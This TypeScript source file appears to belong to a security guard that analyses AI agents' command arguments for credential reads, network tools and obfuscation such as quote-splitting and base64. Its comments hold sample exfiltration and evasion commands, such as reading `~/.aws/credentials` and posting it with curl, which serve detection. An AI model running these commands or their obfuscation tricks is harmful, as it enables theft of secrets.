function globSource(glob: string): string {
  let out = '';
  for (let i = 0; i < glob.length; i++) {
    const c = glob[i] as string;
    if (c === '*') out += '[^/]*';
    else if (c === '?') out += '[^/]';
    else if (c === '[') {
      const close = glob.indexOf(']', i + 2);
      if (close < 0) out += '\\[';
      else {
        const body = glob.slice(i + 1, close).replace(/^!/, '^').replace(/\\/g, '\\\\');
        out += `[${body}]`;
        i = close;
      }
    } else if (c === '{' && glob.indexOf('}', i) > i) {
      const close = glob.indexOf('}', i);
      const parts = glob.slice(i + 1, close).split(',');
      out += `(?:${parts.map((p) => p.replace(/[.*+?^${}()|[\]\\]/g, '\\$&')).join('|')})`;
      i = close;
    } else out += c.replace(/[.*+?^${}()|[\]\\]/g, '\\$&');
  }
  return out;
}

/** Credential stores a globbed path may name (`~/.aws/cred*`, `~/.ss?/i?_rsa`): the shell finds the file, so the reader does too. */
function scanGlobbedStores(text: string, at: At, acc: Acc): void {
  if (!/[*?[{]/.test(text)) return;
  WORD.lastIndex = 0;
  for (let m = WORD.exec(text); m !== null; m = WORD.exec(text)) {
    const word = m[0];
    if (word.length > MAX_TERM * 4 || !/[./~]/.test(word) || !GLOB_SIGN.test(word)) continue;
    let re: RegExp;
    try {
      re = new RegExp(`(?:^|/)${globSource(word.replace(/^(?:~|\$\{?HOME\}?|\.)\/?/, ''))}$`, 'i');
    } catch {
      continue;
    }
    for (const [path, label] of GLOBBED_STORES) {
      if (re.test(path)) {
        record(acc, CRED, label, at);
        break;
      }
    }
  }
}

// ---------------------------------------------------------------------------------------------
// The text as the shell and the interpreter will have spelled it
// ---------------------------------------------------------------------------------------------

/** `$(echo word)`, `` `printf word` ``: a substitution whose output is the literal word. */
const ECHO_SUBSTITUTION = /\$\([ \t]*(?:echo|printf)[ \t]+(?:-[neE]+[ \t]+)?(['"]?)([\w./~:@%+-]*)\1[ \t]*\)|`[ \t]*(?:echo|printf)[ \t]+(?:-[neE]+[ \t]+)?(['"]?)([\w./~:@%+-]*)\3[ \t]*`/g;
/** `$name`, `${name}` and bash's indirect `${!name}`. */
const EXPANSION = /\$\{(!?)([A-Za-z_]\w*)\}|\$([A-Za-z_]\w*)/g;
/** `${name:-default}`, `${name-default}`, `${name:=default}`: the default, as when the variable is unset. */
const DEFAULTED = /\$\{[A-Za-z_]\w*:?[-=]([^{}\n]*)\}/g;
/** A name reference: `declare -n r=TOKEN` makes `$r` read `$TOKEN`. */
const NAMEREF = /\b(?:declare|typeset|local)[ \t]+-[a-zA-Z]*n[a-zA-Z]*[ \t]+([A-Za-z_]\w*)=([A-Za-z_]\w*)/g;
/**
 * A shell word with a quoted or escaped piece in it, read from the word's start: unquoted text,
 * `'…'`, `"…"` and backslash escapes with no space between (`'k=AKIA'"Z7QH…"`, `/dev/"tcp"/`,
 * `tc\p`, `cred''entials`). Words without one are not matched, so most of a text costs one scan.
 */
const PIECED_WORD = /(?<![^\s;|&<>()`])(?:[^\s'"\\;|&<>()`]*(?:'[^'\n]*'|"(?:[^"\\\n]|\\.)*"|\\[^\n]))+[^\s'"\\;|&<>()`]*/g;
const PIECE = /'([^'\n]*)'|"((?:[^"\\\n]|\\.)*)"|\\([^\n])/g;
const ONE_QUOTED_PIECE = /^(?:'[^'\n]*'|"(?:[^"\\\n]|\\.)*")$/;
/** A character a quoted or escaped piece joins: a word's own, or another quote. */
const JOINS = /[\w./~'"-]/;

/**
 * Whether a word's pieces run together as a word does: a quoted or escaped piece against a word's
 * character or another quoted piece. Punctuation next to a quote (`'.ssh',` in Python) joins nothing.
 */
function joinsPieces(w: string): boolean {
  PIECE.lastIndex = 0;
  for (let m = PIECE.exec(w); m !== null; m = PIECE.exec(w)) {
    const before = w[m.index - 1];
    const after = w[m.index + m[0].length];
    if ((before !== undefined && JOINS.test(before)) || (after !== undefined && JOINS.test(after))) return true;
  }
  return false;
}
/** Two string literals joined by `+` or `.` (`'GITHUB_' + 'TOKEN'`, `"fe"."tch"`). */
const CONCATENATION = /(['"])([^'"\\\n]*)\1[ \t]*[+.][ \t]*(['"])([^'"\\\n]*)\3/g;
/** A member named by a string (`process['env']`, `globalThis["fetch"]`) and Python's `getattr(os, 'environ')`. */
const NAMED_MEMBER = /\[[ \t]*[rbuf]?(['"])([A-Za-z_$][\w$]*)\1[ \t]*\]|\bgetattr\([ \t]*([\w.]+)[ \t]*,[ \t]*(['"])([A-Za-z_]\w*)\4[ \t]*\)/g;
/** Passes that fold concatenations: `'a'+'b'+'c'` takes two. */
const MAX_CONCATENATIONS = 8;

const SECRET_DETECTORS = BUILTIN_DETECTORS.filter((d) => d.kind === 'SECRET');

/**
 * The text as it will be when it runs, where that differs from how it is written: `$'…'` decoded,
 * `$(echo word)` replaced by the word, a variable the text gives one literal value replaced by it
 * (`${!name}` by the variable that value names), a word's quoted and escaped pieces joined, string
 * literals concatenated, and members named by a string written as members. Undefined when none of
 * this changes anything.
 */
function spelled(text: string, acc: Acc): string | undefined {
  // Every step is linear in the text, which the reader's own cap bounds: no cap here, so that padding
  // a command never stops it from being spelled (README "Bounds").
  if (!/['"\\$`+]/.test(text)) return undefined;
  let v = text.includes("$'") ? ansiC(text) : text;
  if (v.includes('echo') || v.includes('printf')) v = v.replace(ECHO_SUBSTITUTION, (_m, _q, a: string | undefined, _q2, b: string | undefined) => a ?? b ?? '');
  if (v.includes('${')) v = v.replace(DEFAULTED, '$1');
  if (v.includes('$') && v.includes('=')) {
    const bound = bindingsOf(acc);
    const refs = new Map<string, string>();
    if (v.includes('-')) for (const m of v.matchAll(NAMEREF)) refs.set(m[1] as string, m[2] as string);
    v = v.replace(EXPANSION, (m, bang: string | undefined, braced: string | undefined, bare: string | undefined) => {
      const ref = refs.get((braced ?? bare) as string);
      if (ref !== undefined && bang !== '!') return `$${ref}`;
      const value = bound.get((braced ?? bare) as string);
      if (value === undefined || value === null || value.length !== 1) return m;
      return bang === '!' ? `$${value[0] as string}` : (value[0] as string);
    });
  }
  if (/['"\\]/.test(v)) v = joinedPieces(v);
  for (let n = 0; n < MAX_CONCATENATIONS && /['"][ \t]*[+.][ \t]*['"]/.test(v); n++) {
    const folded = v.replace(CONCATENATION, (_m, q: string, a: string, _q2, b: string) => `${q}${a}${b}${q}`);
    if (folded === v) break;
    v = folded;
  }
  if (v.includes('[') || v.includes('getattr')) {
    // An environment's own keys stay subscripts (`os.environ['KEYS_API']` is one variable, not the mapping).
    v = v.replace(NAMED_MEMBER, (m, _q, name: string | undefined, object: string | undefined, _q2, attr: string | undefined, offset: number, whole: string) =>
      name !== undefined ? (/environb?\s*$/.test(whole.slice(Math.max(0, offset - 16), offset)) ? m : `.${name}`) : `${object as string}.${attr as string}`);
  }
  return v === text ? undefined : v;
}

/**
 * The text with each word's quoted and escaped pieces joined (`c'ur'l` → `curl`), where they run
 * into a word (`joinsPieces`); a word that is one quoted piece stays as it is. The text is built
 * again only from the first word that changes: most commands have none.
 */
function joinedPieces(v: string): string {
  let out = '';
  let at = 0;
  PIECED_WORD.lastIndex = 0;
  for (let m = PIECED_WORD.exec(v); m !== null; m = PIECED_WORD.exec(v)) {
    const w = m[0];
    if (ONE_QUOTED_PIECE.test(w) || !joinsPieces(w)) continue;
    out += v.slice(at, m.index) + w.replace(PIECE, (_p, single: string | undefined, double: string | undefined, escaped: string | undefined) =>
      single ?? (double !== undefined ? double.replace(/\\(["\\$`])/g, '$1') : (escaped ?? '')));
    at = m.index + w.length;
  }
  return at === 0 ? v : out + v.slice(at);
}

/**
 * Read the spelled text ({@link spelled}) with the rules and the secret detectors: a credential
 * path, a network name or a token the shell or the interpreter puts together is found as if written out.
 */
function scanSpelled(text: string, at: At, acc: Acc): void {
  const spelt = spelled(text, acc);
  // What base64 in the text spells (`python3 -c "$(echo aW1w… | base64 -d)"`, a path segment).
  const decoded = readable(spelt ?? text, true);
  if (spelt !== undefined) readSpelled(spelt, at, acc);
  if (decoded !== undefined) {
    // Decoded text is a program of its own (its newlines and quotes are its own): its heads are read too.
    scanHeads(decoded, at, acc);
    readSpelled(decoded, at, acc);
  }
}

function readSpelled(v: string, at: At, acc: Acc): void {
  const gates = (GATES ??= literalScanner(GATE_SETS)).scan(v);
  for (const g of RULE_GROUPS) runGroup(g, gates, v, at, acc);
  scanKeyFiles(v, gates, at, acc);
  for (const d of SECRET_DETECTORS) {
    if (d.quick !== undefined && !d.quick(v, undefined)) continue;
    const span = d.scan(v, undefined)[0];
    if (span !== undefined) record(acc, CRED, `secret ${maskPreview(d.id, v.slice(span.start, span.end))}`, at);
  }
}

function scan(raw: string, at: At, acc: Acc): void {
  if (raw.length < 2) return;
  // A backslash before a line break joins the lines, in a word as anywhere (`cu\⏎rl`).
  const text = raw.includes('\\\n') || raw.includes('\\\r\n') ? raw.replace(/\\\r?\n/g, '') : raw;
  const outer = { text: acc.text, bindings: acc.bindings };
  acc.text = text;
  acc.bindings = undefined;
  scanHeads(text, at, acc);
  scanShapedHeads(text, at, acc);
  scanLeadingRedirects(text, at, acc);
  scanSpelled(text, at, acc);
  acc.text = outer.text;
  acc.bindings = outer.bindings;
  const gates = (GATES ??= literalScanner(GATE_SETS)).scan(text);
  for (const g of RULE_GROUPS) runGroup(g, gates, text, at, acc);
  scanKeyFiles(text, gates, at, acc);
  scanGlobbedStores(text, at, acc);
  scanOpenCalls(text, gates, at, acc);
  scanRedirects(text, at, acc);
}

/**
 * Analyse a call's arguments as shell or interpreter input. Total: never throws on any value.
 *
 * Every string leaf and object key is read (see {@link commandTexts}); the answer is the union over
 * all of them, so data flow through a variable (`T=$(cat ~/.aws/credentials); curl -d "$T"
 * https://x`) needs no tracking: the store and the network tool are in the same call.
 * Deterministic: the same arguments give the same analysis, evidence in the order it was found.
 *
 * When reading stopped early (a cap, or a value that cannot be read), the unread part could hold
 * anything, so the analysis is the strictest one: network-capable, every phase, and a credential
 * label naming where reading stopped (README "Bounds").
 */
export function analyzeCommand(args: unknown): CommandAnalysis {
  return analyzeTape(readValue(args));
}

/** {@link analyzeCommand} on a value already read. */
export function analyzeTape(tape: Tape): CommandAnalysis {
  const acc: Acc = { tape, phases: 0, refs: new Set(), evidence: [], seen: new Set() };
  const us = units(collect(tape));
  for (const u of us) {
    scan(u.text, u.at, acc);
    // Command lines found inside it, each read once it is done, up to MAX_INNER_LINES of them.
    for (let n = 0; acc.pending !== undefined && acc.pending.length > 0; n++) {
      const line = acc.pending.shift() as string;
      if (n >= MAX_INNER_LINES) {
        // INVARIANT: a command line the reader does not read counts as everything the rules look for.
        record(acc, NETWORK | PAT | MUT | CRED, `command not read past ${MAX_INNER_LINES} inner command lines`, u.at);
        acc.pending = undefined;
        break;
      }
      scan(line, u.at, acc);
    }
  }
  if (tape.stop !== undefined) {
    // INVARIANT: what was not read counts as everything the rules look for.
    const label = `input not read (${tape.stop.reason}) past ${tape.stop.path}`;
    record(acc, NETWORK | PAT | MUT | CRED, label, tape.stop.path);
  }
  const scripts = scriptsIn(us);
  if (scripts.length > MAX_SCRIPT_RUNS) {
    // INVARIANT: a script run the guard does not look up counts as everything the rules look for.
    record(acc, NETWORK | PAT | MUT | CRED, `command not read past ${MAX_SCRIPT_RUNS} script runs`, '$');
    scripts.length = MAX_SCRIPT_RUNS;
  }
  const credentialRefs = [...acc.refs].sort().slice(0, MAX_REFS);
  return {
    network: (acc.phases & NETWORK) !== 0,
    credentialRefs,
    evidence: acc.evidence,
    phases: acc.phases,
    scripts,
  };
}

// ---------------------------------------------------------------------------------------------
// Scripts written in the session, then run by file
// ---------------------------------------------------------------------------------------------

/** Script files by extension: what an interpreter runs by path. */
const SCRIPT_EXTENSIONS = 'py|pyw|js|mjs|cjs|ts|mts|rb|pl|php|sh|bash|zsh|ksh|ps1|psm1|bat|cmd|lua|r|jl|swift|go|groovy|kts';
/**
 * A script path that a command runs: an interpreter followed (after its options) by a path, or a
 * path run directly (`./deploy.sh`, `/opt/x/run.py`). Only paths with a script extension count,
 * ending where a shell word ends: a redirection right after the path ends it too (`sh deploy.sh>log`).
 */
const SCRIPT_RUN = new RegExp(
  String.raw`(?:^|[\s;&|(` + '`' + String.raw`])(?:(?:sudo\s+)?(?:python[0-9.]*|py|pypy3?|node|nodejs|deno\s+run|bun(?:\s+run)?|tsx|ts-node|ruby|perl|php|bash|sh|zsh|ksh|dash|source|\.|pwsh|powershell(?:\.exe)?|cmd(?:\.exe)?\s+/c|call|Rscript|julia|lua|groovy|swift|go\s+run)(?:\s+-{1,2}[\w-]+(?:[=\s]+(?![\w./~-]+\.(?:` + SCRIPT_EXTENSIONS + String.raw`)\b)[^\s;&|]+)?)*\s+|(?=\.{0,2}/|~/))` +
    String.raw`(["']?)((?:~|\.{1,2})?/?[\w@%+=:,./~-]*?[\w-]\.(?:` + SCRIPT_EXTENSIONS + String.raw`))\1(?=$|[\s;&|)<>'"])`,
  'gi',
);
/** Somewhere in the text, a name with a script extension ending as {@link SCRIPT_RUN} requires. */
const SCRIPT_NAMED = new RegExp(String.raw`\.(?:${SCRIPT_EXTENSIONS})(?=$|[\s;&|)<>'"])`, 'i');
/** A path with a script extension. */
const SCRIPT_FILE = new RegExp(String.raw`\.(?:${SCRIPT_EXTENSIONS})$`, 'i');
/** Argument names that hold a file's path, and its content, on a file-writing tool. */
const PATH_KEY = /^(?:path|file|file_?path|file_?name|target|target_?file|destination|dest|output|output_?path|uri)$/i;
const CONTENT_KEY = /^(?:content|contents|text|data|body|code|source|script|new_?content|file_?text)$/i;
/** Path components kept in a script key: enough to tell `a/run.py` from `b/run.py`, few enough to match a relative run. */
const KEY_COMPONENTS = 3;

/**
 * The keys a script path is known by: its last 1 … 3 components after normalising (`./a/b.py`,
 * `/w/a/b.py` and `a/b.py` share `a/b.py` and `b.py`). A lookup matches when any key is shared,
 * so a run by a shorter or longer path than the write still matches (stricter, never laxer).
 */
export function scriptKeys(path: string): string[] {
  const parts = path
    .replace(/\\/g, '/')
    .split('/')
    .filter((p) => p !== '' && p !== '.' && p !== '~');
  const keys: string[] = [];
  for (let n = 1; n <= Math.min(KEY_COMPONENTS, parts.length); n++) keys.push(parts.slice(parts.length - n).join('/'));
  return keys;
}

/** The script files a command runs by path (`python3 scripts/upload.py`, `./deploy.sh`, `pwsh -File x.ps1`). */
export function scriptRuns(args: unknown): string[] {
  return scriptsIn(units(collect(readValue(args)))).slice(0, MAX_SCRIPT_RUNS);
}

/** The distinct scripts run, up to one past {@link MAX_SCRIPT_RUNS} (so that a caller sees the bound was passed). */
function scriptsIn(us: readonly { text: string }[]): string[] {
  const out = new Set<string>();
  for (const u of us) {
    // Every script run names a script file: most texts have none and skip the slower search.
    if (!SCRIPT_NAMED.test(u.text)) continue;
    for (const m of u.text.matchAll(SCRIPT_RUN)) {
      const p = m[2];
      if (p !== undefined) out.add(p);
      if (out.size > MAX_SCRIPT_RUNS) return [...out];
    }
  }
  return [...out];
}

/** What a script written to disk can do when it is run, as far as its content says. */
export interface ScriptWrite {
  readonly path: string;
  readonly network: boolean;
  readonly credential: boolean;
}

/**
 * Scripts a file-writing call puts on disk: a path argument and a content argument side by side
 * in any object of the arguments, with what running that content could do.
 * @returns for each path with network-capable or credential-reading content: the path and those
 *   two facts (no raw text kept)
 */
export function scriptWrites(args: unknown): ScriptWrite[] {
  return scriptWritesTape(readValue(args));
}

/**
 * {@link scriptWrites} on a value already read. When reading stopped early, a script whose content
 * was not read in full may do anything: it counts as network-capable and reading credentials.
 */
export function scriptWritesTape(tape: Tape): ScriptWrite[] {
  const out: ScriptWrite[] = [];
  const n = tape.kind.length;
  // Every object of the arguments, at any depth: wrapping a write in another object hides nothing.
  const firstPath = new Map<number, number>();
  const firstContent = new Map<number, number>();
  for (let i = 1; i < n; i++) {
    const p = tape.parent[i] as number;
    const k = tape.key[i];
    if (tape.kind[p] !== K_OBJECT || tape.kind[i] !== K_STRING || typeof k !== 'string') continue;
    if (!firstPath.has(p) && PATH_KEY.test(k)) firstPath.set(p, i);
    else if (!firstContent.has(p) && CONTENT_KEY.test(k)) firstContent.set(p, i);
  }
  const unread = tape.stop !== undefined;
  for (const [p, pi] of firstPath) {
    const ci = firstContent.get(p);
    const path = (tape.text[pi] as string).trim();
    if (!SCRIPT_FILE.test(path)) continue;
    if (ci === undefined && !unread) continue;
    const a = ci === undefined ? undefined : analyzeTape(readValue({ content: tape.text[ci] }));
    const network = unread || (a?.network ?? false);
    const credential = unread || (a !== undefined && a.credentialRefs.length > 0);
    if (network || credential) out.push({ path, network, credential });
  }
  return out;
}
